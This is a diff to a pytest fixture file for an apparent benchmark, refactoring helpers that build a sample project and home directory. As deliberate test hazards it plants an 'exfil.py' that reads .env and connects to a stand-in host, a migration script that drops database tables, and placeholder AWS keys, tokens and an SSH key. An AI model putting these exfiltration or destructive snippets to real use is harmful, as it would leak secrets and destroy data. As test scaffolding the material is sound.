@@ -24,7 +24,7 @@ import time
 
 import pytest
 
-from benchlib import ROOT
+from benchlib import ROOT, commit_all, sqlite_db, write_file
 
 PY = sys.executable
 CORPUS = {
@@ -91,60 +91,39 @@ TIMED = ("true", "rm-src", "make", "exfil-script")
 
 
 def _project(root: str) -> None:
-    os.makedirs(f"{root}/src")
-    os.makedirs(f"{root}/pkg")
-    os.makedirs(f"{root}/tests")
     os.makedirs(f"{root}/build")
     for i in range(12):
-        with open(f"{root}/src/m{i}.c", "w") as f:
-            f.write(f"int m{i}(int x) {{\n    return x + {i};\n}}\n")
-    with open(f"{root}/src/main.c", "w") as f:
-        f.write("int main(void) { return 0; }\n")
-    with open(f"{root}/Makefile", "w") as f:
-        f.write("SRC := $(wildcard src/*.c)\nOBJ := $(SRC:src/%.c=build/%.o)\n"
-                "prog: $(OBJ)\n\tcc -o $@ $^\nbuild/%.o: src/%.c\n\t@mkdir -p build\n"
-                "\tcc -c -o $@ $<\nclean:\n\trm -rf build prog\n")
+        write_file(f"{root}/src/m{i}.c", f"int m{i}(int x) {{\n    return x + {i};\n}}\n")
+    write_file(f"{root}/src/main.c", "int main(void) { return 0; }\n")
+    write_file(f"{root}/Makefile", "SRC := $(wildcard src/*.c)\nOBJ := $(SRC:src/%.c=build/%.o)\n"
+               "prog: $(OBJ)\n\tcc -o $@ $^\nbuild/%.o: src/%.c\n\t@mkdir -p build\n"
+               "\tcc -c -o $@ $<\nclean:\n\trm -rf build prog\n")
     for i in range(6):
-        with open(f"{root}/pkg/mod{i}.py", "w") as f:
-            f.write(f"def f{i}(x):\n    return x * {i}\n")
-    with open(f"{root}/pkg/__init__.py", "w") as f:
-        f.write("")
+        write_file(f"{root}/pkg/mod{i}.py", f"def f{i}(x):\n    return x * {i}\n")
+    write_file(f"{root}/pkg/__init__.py", "")
     for i in range(4):
-        with open(f"{root}/tests/test_m{i}.py", "w") as f:
-            f.write(f"import unittest\nclass T(unittest.TestCase):\n    def test_{i}(self):\n"
-                    f"        self.assertEqual({i} * 2, {2 * i})\n")
+        write_file(f"{root}/tests/test_m{i}.py",
+                   f"import unittest\nclass T(unittest.TestCase):\n    def test_{i}(self):\n"
+                   f"        self.assertEqual({i} * 2, {2 * i})\n")
     _wheel(f"{root}/dist/tinypkg-1-py3-none-any.whl")
-    with open(f"{root}/run_tests.sh", "w") as f:
-        f.write(f"#!/bin/sh\n{PY} -m unittest discover -s tests 2>&1\n")
-    os.chmod(f"{root}/run_tests.sh", 0o755)
-    with open(f"{root}/README.md", "w") as f:
-        f.write("# demo\n\nA project for the report bench.\n")
-    with open(f"{root}/data.txt", "w") as f:
-        f.write("\n".join(str((i * 7919) % 1000) for i in range(1000)) + "\n")
-    with open(f"{root}/.gitignore", "w") as f:
-        f.write("build/\nprog\n.env\n*.o\n__pycache__/\n")
-    with open(f"{root}/.env", "w") as f:
-        f.write("API_TOKEN=tok_live_4f9a8b7c6d5e4f3a\nDATABASE_URL=postgres://app:pw-9x8y7z@db/app\n")
-    with open(f"{root}/migrate.py", "w") as f:
-        f.write("import sqlite3\nc = sqlite3.connect('app.db')\n"
-                "c.executescript('DROP TABLE users; DELETE FROM orders;')\nc.commit()\n")
-    with open(f"{root}/exfil.py", "w") as f:
-        f.write("import socket\ndata = open('.env').read()\n"
-                "s = socket.socket(); s.settimeout(1); s.connect_ex(('203.0.113.7', 443))\n")
-    import sqlite3
-    con = sqlite3.connect(f"{root}/app.db")
-    con.executescript("CREATE TABLE users(id, name); CREATE TABLE orders(id, total);"
-                      + "".join(f"INSERT INTO users VALUES ({i}, 'u{i}');" for i in range(50))
-                      + "".join(f"INSERT INTO orders VALUES ({i}, {i * 3});" for i in range(80)))
-    con.commit()
-    con.close()
-    git = ["git", "-c", "user.email=a@b", "-c", "user.name=n"]
-    subprocess.run(git + ["init", "-q"], cwd=root, check=True)
-    subprocess.run(git + ["add", "-A"], cwd=root, check=True)
-    subprocess.run(git + ["commit", "-qm", "one"], cwd=root, check=True)
+    write_file(f"{root}/run_tests.sh", f"#!/bin/sh\n{PY} -m unittest discover -s tests 2>&1\n",
+               0o755)
+    write_file(f"{root}/README.md", "# demo\n\nA project for the report bench.\n")
+    write_file(f"{root}/data.txt", "\n".join(str((i * 7919) % 1000) for i in range(1000)) + "\n")
+    write_file(f"{root}/.gitignore", "build/\nprog\n.env\n*.o\n__pycache__/\n")
+    write_file(f"{root}/.env",
+               "API_TOKEN=tok_live_4f9a8b7c6d5e4f3a\nDATABASE_URL=postgres://app:pw-9x8y7z@db/app\n")
+    write_file(f"{root}/migrate.py", "import sqlite3\nc = sqlite3.connect('app.db')\n"
+               "c.executescript('DROP TABLE users; DELETE FROM orders;')\nc.commit()\n")
+    write_file(f"{root}/exfil.py", "import socket\ndata = open('.env').read()\n"
+               "s = socket.socket(); s.settimeout(1); s.connect_ex(('203.0.113.7', 443))\n")
+    sqlite_db(f"{root}/app.db", "CREATE TABLE users(id, name); CREATE TABLE orders(id, total);"
+              + "".join(f"INSERT INTO users VALUES ({i}, 'u{i}');" for i in range(50))
+              + "".join(f"INSERT INTO orders VALUES ({i}, {i * 3});" for i in range(80)))
+    commit_all(root, "one", init=True)
     with open(f"{root}/README.md", "a") as f:
         f.write("More.\n")
-    subprocess.run(git + ["commit", "-qam", "two"], cwd=root, check=True)
+    commit_all(root, "two")
     subprocess.run(["make", "-s"], cwd=root, check=True, capture_output=True)
 
 
@@ -163,16 +142,12 @@ def _wheel(path: str) -> None:
 
 
 def _home(root: str) -> None:
-    os.makedirs(f"{root}/.aws")
-    os.makedirs(f"{root}/.ssh", mode=0o700)
-    with open(f"{root}/.aws/credentials", "w") as f:
-        f.write("[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"
-                "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n")
-    with open(f"{root}/.ssh/id_ed25519", "w") as f:
-        f.write("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n"
-                "-----END OPENSSH PRIVATE KEY-----\n")
-    with open(f"{root}/.bashrc", "w") as f:
-        f.write("export PS1='$ '\n")
+    write_file(f"{root}/.aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"
+               "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n")
+    write_file(f"{root}/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\n"
+               "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n-----END OPENSSH PRIVATE KEY-----\n")
+    os.chmod(f"{root}/.ssh", 0o700)
+    write_file(f"{root}/.bashrc", "export PS1='$ '\n")
 
 
 @pytest.fixture(scope="module")
